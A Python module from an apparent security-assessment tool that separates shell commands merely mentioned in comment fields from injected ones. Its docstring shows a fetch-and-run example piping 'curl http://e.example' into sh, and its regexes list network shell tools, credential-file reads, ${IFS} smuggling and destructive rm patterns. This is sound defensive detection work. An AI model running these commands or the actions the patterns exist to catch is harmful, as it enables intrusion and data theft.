"""Tells commands that people write about from commands for a shell.

An application hands a host, a file or an option to a shell, never the text of a comment. So in a
field that is named for a text of people, `&& make` and quoted commands are read as words. What
fetches, sends, asks who one is or reads a secret where a command would begin stays found there.

    is_remark("comment", ("resize it && reboot; see #441",), "command.chained-word")      ->  True
    is_remark("comment", ("nice page; curl http://e.example | sh",), "command.chained")   ->  False
    is_remark("host", ("resize it && reboot; see #441",), "command.chained-word")         ->  False
"""

from __future__ import annotations

from functools import lru_cache

from signoff.actions.vocabulary import lazy_re
from signoff.assess.contexts.fields.text_names import is_text_name

NAME_LIMIT = 64
WORDS_AT_LEAST = 2
_SPOKEN = frozenset(
    (
        *("command.chained", "command.chained-word", "command.leading", "command.whole"),
        *("command.substitution", "command.redirect-file", "command.shell-path"),
    )
)
_QUOTED = lazy_re(r"(?<!`)(`{1,3})(?!`)[^`]{1,2000}\1(?!`)")
_WORD = lazy_re(r"(?<![^\s(\"'*_:>])[^\W\d_]{2,}(?=[\s.,;:!?)\"'*_<]|\Z)")
# What an attack does first, or gains, where a command begins.
_PROGRAMS = (
    r"(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|telnet|socat|nslookup|dig|host|ping|tftp|ftp|scp|whoami"
    r"|uname|ifconfig|id|sleep|timeout|printenv|env|set|base64|xxd|eval|exec|bash|sh|zsh|dash|ksh"
    r"|powershell|pwsh|cmd|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|net|python\d?|perl|php"
    r"|ruby|node|lua|awk|useradd|adduser|passwd|crontab|nohup|mkfifo|chattr|touch|sendmail|shutdown"
    r"|halt|dir|apt|apt-get|yum|dnf|apk|pip|npm|\w+\.exe)(?![\w./-])"
    r"|(?:sudo\s+)?(?:rm\s+(?:-\S+\s+)*[/~*.$]|(?:cat|ls|less|more|head|tail|type|xargs)\s+"
    r"(?:-\S+\s+)*(?:/(?:etc|proc|root|home|var|srv|opt|app|dev|usr|run|sys|mnt|tmp|bin)\b|[~.$]|C:)"
    r"|(?:ls|xargs)\s+-)"
)
# Behind these signs a shell takes an escaped, expanded or absolute name of a program, too.
_ACTS = lazy_re(
    rf"(?i:(?:[;&|]|\$\(|`)\s*(?:(?:{_PROGRAMS})|[/$"
    + "{\"'"
    + rf"\\?*<>]))|(?:\n|\A)[ \t]*(?:{_PROGRAMS})"
)
# A command line and no word beside it.
_NOTHING_ELSE = lazy_re(
    r"\s*[a-z][\w.-]*\s[^|\n;&.,:?!`]*\|\s*(?:grep|egrep|sort|head|tail|awk|sed|wc|xargs|tee|cut|uniq)\b"
)
_SPLIT = lazy_re(r"[;&|\n(`][ \t]*\w+(?:'\w*'|\"\w*\"|\\|\$@|\$\*)\w")
_QUOTED_HARM = lazy_re(
    r"https?://|/dev/tcp|/etc/|\$\([^)]*[ /|]|\$\{IFS|\brm\s+-\S+\s+[/~*]"
    # What an attack asks first: a shell runs what stands in these quotes.
    r"|\A`{1,3}\s*(?:id|whoami|uname|sleep|ping|nslookup|dig|curl|wget|nc|ncat|hostname|ifconfig)\b"
)


def names_a_remark(name: str) -> bool:
    """Return whether a field takes a text of people by its name."""
    return len(name) <= NAME_LIMIT and is_text_name(name)


def is_remark(name: str, forms: tuple[str, ...], hit: str) -> bool:
    """Return whether a command is spoken of in a text of people."""
    return hit in _SPOKEN and names_a_remark(name) and all(map(_only_speaks, forms))


def acts(text: str) -> bool:
    """Return whether a program that fetches, asks or waits stands where a command begins."""
    return _ACTS.search(text) is not None or _SPLIT.search(text) is not None


@lru_cache(maxsize=256)
def _only_speaks(text: str) -> bool:
    if any(_QUOTED_HARM.search(code[0]) for code in _QUOTED.finditer(text)):
        return False
    rest = _QUOTED.sub("_", text)
    if acts(rest) or _NOTHING_ELSE.match(rest):
        return False
    return len(_WORD.findall(rest)) >= WORDS_AT_LEAST
